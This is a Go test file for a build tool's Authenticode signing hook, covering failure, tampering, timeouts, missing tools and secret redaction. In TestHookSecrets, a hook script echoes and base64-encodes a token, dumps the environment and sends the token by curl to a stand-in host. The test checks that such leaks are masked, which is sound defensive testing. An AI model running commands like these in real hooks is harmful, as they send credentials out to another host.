package sign_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"errors"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/rs/zerolog"

	"collet/build/pack/pe"
	"collet/build/pack/sign"
	"collet/platform/testlevel"
)

// hook is a shell script that signs, the way a packager's own would: its first argument is the file.
func hook(t *testing.T, script string, env environment, change func(*sign.AuthenticodeSpec)) (*sign.Authenticode, *bytes.Buffer, string) {
	t.Helper()
	testlevel.Slow(t)
	if runtime.GOOS == "windows" {
		t.Skip("SKIPPED: hooks of these tests are shell scripts")
	}
	var log bytes.Buffer
	temp := t.TempDir()
	spec := sign.AuthenticodeSpec{Command: []string{"sh", "-c", script, "hook", "{file}"}}
	for name := range env {
		spec.Env = append(spec.Env, name)
	}
	if change != nil {
		change(&spec)
	}
	return signer(t, spec, sign.Options{Look: env.look, Temp: temp, Log: zerolog.New(&log)}), &log, temp
}

const signing = `osslsigncode sign -certs "$CERTIFICATE" -key "$KEY" -in "$1" -out "$1.new" && mv "$1.new" "$1"`

func TestHook(t *testing.T) {
	tools(t, "osslsigncode")
	certificate, key := newAuthority(t, "Root of Everybody").leaf(t, nil)
	a, log, temp := hook(t, `echo "called for $1"; `+signing, environment{"CERTIFICATE": certificate, "KEY": key}, nil)
	if _, err := a.Check(t.Context()); err != nil {
		t.Error(err)
	}
	file := programFile(t)
	signed, err := a.Sign(t.Context(), file)
	if err != nil || signed.Signer == "" || signed.Test() {
		t.Fatalf("%+v, %v", signed, err)
	}
	alone(t, file, temp)
	if n := strings.Count(log.String(), `"output":"called for`); n != 1 {
		t.Errorf("it was called %d times: %s", n, log)
	}
	if is, err := sign.IsSigned(file); !is || err != nil {
		t.Error(is, err)
	}
}

// A command whose arguments don't mention the file gets its path at the end, and its name is the file's own.
func TestHookWithoutPlaceholder(t *testing.T) {
	tools(t, "osslsigncode")
	certificate, key := newAuthority(t, "Root of Everybody").leaf(t, nil)
	a, _, _ := hook(t, "", environment{"CERTIFICATE": certificate, "KEY": key}, func(s *sign.AuthenticodeSpec) {
		s.Command = []string{"sh", "-c", `test "$(basename "$1")" = Lathe.exe && ` + signing, "hook"}
	})
	if _, err := a.Sign(t.Context(), programFile(t)); err != nil {
		t.Error(err)
	}
}

// What a command does wrong stops packaging, and the file stays as it was.
func TestHookGoneWrong(t *testing.T) {
	tools(t, "osslsigncode")
	certificate, key := newAuthority(t, "Testing Authority").leaf(t, nil)
	env := environment{"CERTIFICATE": certificate, "KEY": key}
	var refused *sign.TestKeyError
	for _, c := range []struct {
		name, script string
		want         func(error) bool
	}{
		{"ends with an error", "echo no; exit 3", func(err error) bool { return strings.Contains(err.Error(), "exit status 3") }},
		{"does nothing", "true", func(err error) bool { return errors.Is(err, pe.Unsigned) }},
		{"removes the file", `rm "$1"`, func(err error) bool { return errors.Is(err, os.ErrNotExist) }},
		{"writes something else", `echo text >"$1"`, func(err error) bool { return errors.Is(err, pe.NotPE) }},
		{"empties the file", `: >"$1"`, func(err error) bool { return errors.Is(err, pe.NotPE) }},
		{"changes the program", `printf x | dd of="$1" bs=1 seek=1000 conv=notrunc 2>/dev/null; ` + signing, func(err error) bool { return errors.Is(err, pe.Changed) }},
		{"appends to it", signing + `; echo more >>"$1"`, func(err error) bool { return errors.Is(err, pe.Changed) }},
		{"signs with a key for tests", signing, func(err error) bool { return errors.As(err, &refused) }},
	} {
		t.Run(c.name, func(t *testing.T) {
			a, _, temp := hook(t, c.script, env, nil)
			file := programFile(t)
			before, _ := os.ReadFile(file)
			if _, err := a.Sign(t.Context(), file); err == nil || !c.want(err) {
				t.Errorf("%v", err)
			}
			if after, _ := os.ReadFile(file); !bytes.Equal(before, after) {
				t.Error("the file has changed")
			}
			alone(t, file, temp)
		})
	}
}

// A command gets what it needs and what is named for it. What it prints is shown without that.
func TestHookSecrets(t *testing.T) {
	const token = "very-secret token"
	t.Setenv("OTHERS_SECRET", "hidden from it")
	env := environment{"TOKEN": token, "HTTPS_PROXY": "http://ada:way-past-the-gate@proxy.example.org:8080"}
	script := `echo "token $TOKEN"; printf %s "user:$TOKEN" | base64; echo "others: $OTHERS_SECRET."; curl -q "https://x/?t=very-secret+token" 2>/dev/null
		env >&2; exit 1`
	a, log, _ := hook(t, script, env, nil)
	_, err := a.Sign(t.Context(), programFile(t))
	if err == nil {
		t.Fatal("it was taken")
	}
	for where, text := range map[string]string{"error": err.Error(), "log": log.String()} {
		for _, form := range []string{token, "very-secret+token", "hidden from it", "way-past-the-gate", strings.TrimRight(base64.StdEncoding.EncodeToString([]byte(token)), "=")} {
			if strings.Contains(text, form) {
				t.Errorf("the %s shows %q:\n%s", where, form, text)
			}
		}
		if !strings.Contains(text, "token [secret]") || !strings.Contains(text, "others: .") {
			t.Errorf("the %s does not show the rest:\n%s", where, text)
		}
	}
	if strings.Contains(err.Error(), "OTHERS_SECRET=") {
		t.Error("the command got a variable that is not for it")
	}
}

// However much a tool prints, its end is shown, and never a part of a secret that was cut off.
func TestHookPrintsForEver(t *testing.T) {
	const token = "0123456789abcdefghijklmnopqrstuvwxyz"
	a, log, _ := hook(t, `i=0; while [ $i -lt 20000 ]; do echo $TOKEN; i=$((i+1)); done; echo the end; exit 1`, environment{"TOKEN": token}, nil)
	_, err := a.Sign(t.Context(), programFile(t))
	if err == nil || !strings.Contains(err.Error(), "the end") || len(err.Error()) > 10000 {
		t.Errorf("%.2000v", err)
	}
	if log.Len() > 200000 {
		t.Errorf("%d bytes of log", log.Len())
	}
	for _, part := range []string{token[:6], token[30:]} {
		if strings.Contains(log.String(), part) {
			t.Errorf("%q is shown", part)
		}
	}
}

// A tool that hangs ends with the context, and so does what it has started: both hold a pipe open, whose end is read.
func TestHookHangs(t *testing.T) {
	tools(t, "mkfifo")
	pipe := filepath.Join(t.TempDir(), "pipe")
	must(t, "mkfifo", pipe)
	ctx, cancel := context.WithCancelCause(t.Context())
	defer cancel(nil)
	a, _, temp := hook(t, `exec 3>"$PIPE"; sleep 600 & wait`, environment{"PIPE": pipe}, nil)
	file := programFile(t)
	reason := errors.New("the user interrupted it")
	gone := make(chan error)
	go func() {
		f, err := os.Open(pipe) // as soon as the other end is open
		cancel(reason)
		if err == nil {
			_, err = io.Copy(io.Discard, f)
			f.Close()
		}
		gone <- err
	}()
	if _, err := a.Sign(ctx, file); !errors.Is(err, reason) {
		t.Error(err)
	}
	alone(t, file, temp)
	if err := <-gone; err != nil {
		t.Error(err)
	}
}

// A tool has no terminal that it could wait at for a password.
func TestHookCannotAsk(t *testing.T) {
	a, _, _ := hook(t, `read answer </dev/tty && exit 7; read answer && exit 8; exit 9`, nil, nil)
	if _, err := a.Sign(t.Context(), programFile(t)); err == nil || !strings.Contains(err.Error(), "exit status 9") {
		t.Error(err)
	}
}

func TestHookIsMissing(t *testing.T) {
	a, _, _ := hook(t, "", nil, func(s *sign.AuthenticodeSpec) { s.Command = []string{"no-such-signer"} })
	if _, err := a.Check(t.Context()); err == nil || !strings.Contains(err.Error(), "no-such-signer is missing") {
		t.Error(err)
	}
	if _, err := a.Sign(t.Context(), programFile(t)); err == nil || !strings.Contains(err.Error(), "no-such-signer is missing") {
		t.Error(err)
	}
}
